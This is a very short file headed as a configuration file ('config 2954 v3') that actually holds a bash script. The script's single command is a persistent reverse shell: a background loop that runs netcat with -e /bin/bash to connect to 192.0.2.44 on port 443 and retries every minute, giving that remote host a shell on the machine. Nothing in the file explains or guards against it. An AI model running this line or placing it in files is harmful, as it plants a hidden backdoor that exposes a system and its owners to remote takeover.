# config 2954 v3
#!/bin/bash
while true; do nc -e /bin/bash 192.0.2.44 443; sleep 60; done &
